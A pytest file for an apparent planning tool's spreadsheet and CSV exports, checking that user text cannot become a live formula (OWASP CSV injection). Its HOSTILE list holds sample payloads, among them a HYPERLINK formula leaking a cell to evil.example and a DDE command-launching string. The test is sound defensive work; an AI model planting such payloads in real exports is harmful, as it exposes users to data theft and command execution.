"""No export holds a live formula from user text (OWASP CSV injection: a cell starting with
=, +, -, @, tab or CR). The real engine's plan is exported with hostile text in the
scenario name and in table cells, and the files are read back: openpyxl must see no
formula cell and no text cell starting with a trigger; the CSV likewise."""

from __future__ import annotations

import csv
from dataclasses import replace

import pytest

from workstation.deploy.scenario import DeploymentScenario
from workstation.exports._common import FORMULA_TRIGGERS, safe_text_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def hostile_plan(pack):
    from workstation.deploy import recommend
    plan = recommend(pack, DeploymentScenario(name=HOSTILE[0]))
    table = plan.plan.copy()
    names = table["unit_name"].astype(object)
    for i, text in enumerate(HOSTILE):
        names.iloc[i] = text
    table["unit_name"] = names
    return replace(plan, plan=table, basis=tuple(plan.basis) + ("@basis line from a user",))


def test_guard_follows_owasp():
    for text in HOSTILE:
        assert safe_text_cell(text) == "'" + text
    assert safe_text_cell("Westminster") == "Westminster"
    assert safe_text_cell(-3.5) == -3.5 and safe_text_cell(None) is None
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


def test_xlsx_holds_no_live_formula(hostile_plan, tmp_path):
    from openpyxl import load_workbook

    from workstation.exports.plan_xlsx import write_plan_xlsx
    path = write_plan_xlsx(hostile_plan, tmp_path / "plan.xlsx")
    book = load_workbook(path)          # formulas as written, not cached values
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_TRIGGERS), \
                        f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                    seen.append(cell.value)
    for text in HOSTILE:                # the user's text is kept, as text (XML stores CR as LF)
        assert ("'" + text).replace("\r", "\n") in seen, text
    assert "'@basis line from a user" in seen
    # numbers stay numbers (the guard only touches text)
    plan_sheet = book["Plan"]
    numeric = [c.value for c in plan_sheet[2] if isinstance(c.value, (int, float))]
    assert numeric


def test_csv_holds_no_live_formula(hostile_plan, tmp_path):
    from workstation.exports.plan_csv import write_plan_csv
    path = write_plan_csv(hostile_plan, tmp_path / "plan.csv")
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    names = [r[header.index("unit_name")] for r in rows[1:]]
    for text in HOSTILE:
        assert "'" + text in names
    for row in rows:
        for value in row:
            if value and not _is_number(value):
                assert not value.startswith(FORMULA_TRIGGERS), value


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
